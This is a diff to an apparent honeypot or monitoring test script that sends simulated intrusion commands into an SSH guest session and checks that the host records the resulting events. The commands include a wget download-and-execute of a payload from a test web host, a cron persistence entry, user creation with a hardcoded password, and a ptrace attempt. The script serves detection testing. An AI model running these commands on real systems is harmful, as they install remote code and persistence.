@@ -32,10 +32,12 @@ log "interactive session"
 	echo "echo typed-$marker"
 	echo "wget -q -O /tmp/payload http://$WEB_IP/payload && chmod +x /tmp/payload && /tmp/payload; rm -f /tmp/payload"
 	echo '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x") | crontab -'
-	echo 'useradd -m alice && printf "Secr3t!\nSecr3t!\n" | passwd alice'
-	echo 'su alice -s /bin/sh -c "id -un"'
+	echo 'useradd -m alice && printf "Secr3tPw\nSecr3tPw\n" | passwd alice'
+	echo 'su alice -s /bin/sh -c "echo su-became-\$(id -un)"'
 	echo 'mount -t tmpfs none /mnt && umount /mnt'
-	echo "perl -e 'syscall(175, 0, 0, \"\"); syscall(101, 16, 1, 0, 0)'"
+	# PTRACE_ATTACH to a pid that does not exist (attaching to a live one
+	# would leave it stopped when perl exits).
+	echo "perl -e 'my \$p = \"\"; syscall(175, 0, 0, \$p); syscall(101, 16, 99999, 0, 0)'"
 	echo 'sh -c "sleep 0.2 & sleep 0.3 & wait"'
 	echo "logger -t oyster-test logline-$marker"
 	echo 'exit'
@@ -43,7 +45,7 @@ log "interactive session"
 	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
 	"root@$gip" > "$WORK/session.out" 2>&1 || true
 grep -q "$marker ran as 0" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "payload did not run"; }
-grep -q "^alice" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "su did not run"; }
+grep -q "su-became-alice" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "su did not run"; }
 
 log "tamper checks inside the guest"
 # What names the channel: its environment variables, its file, its code.
@@ -126,8 +128,9 @@ file_event '.op == "rename" and .comm == "crontab" and .new_path == "/var/spool/
 file_event '.op == "rename" and .new_path == "/etc/shadow"' "no event for the password change writing /etc/shadow"
 file_event '.op == "mkdir" and .path == "/home/alice"' "no mkdir of the new user's home"
 
-# Credentials: su became alice; the password change reached the host's log.
-alice_uid="$(jq -r 'select(.type == "file" and .op == "chown" and .path == "/home/alice") | .owner' "$ev" | head -1)"
+# Credentials: su became alice (useradd chowns her home to root first, then
+# to her); the password change reached the host's log.
+alice_uid="$(jq -r 'select(.type == "file" and .op == "chown" and .path == "/home/alice") | .owner' "$ev" | tail -1)"
 [ -n "$alice_uid" ] && [ "$alice_uid" != null ] || fail "no chown of alice's home"
 jq_any --argjson u "$alice_uid" 'select(.type == "cred" and .syscall == "setuid" and .ok and .before.uid == 0 and .after.uid == $u and .after.euid == $u)' "$ev" >/dev/null ||
 	fail "no setuid to alice ($alice_uid): $(jq -c 'select(.type == "cred")' "$ev" | head -5)"
@@ -140,7 +143,7 @@ jq_any 'select(.type == "mount" and .syscall == "mount" and .ok and .strings == 
 jq_any 'select(.type == "mount" and .syscall == "umount2" and .strings == ["/mnt"])' "$ev" >/dev/null || fail "no umount event"
 jq_any 'select(.type == "module" and .syscall == "init_module" and .error == "ENOSYS")' "$ev" >/dev/null ||
 	fail "no init_module attempt recorded"
-jq_any 'select(.type == "ptrace" and .syscall == "ptrace" and .args[0] == 16 and .args[1] == 1)' "$ev" >/dev/null ||
+jq_any 'select(.type == "ptrace" and .syscall == "ptrace" and .args[0] == 16 and .args[1] == 99999 and .error == "ESRCH")' "$ev" >/dev/null ||
 	fail "no ptrace attempt recorded"
 
 # Terminal: what was typed and what was shown.
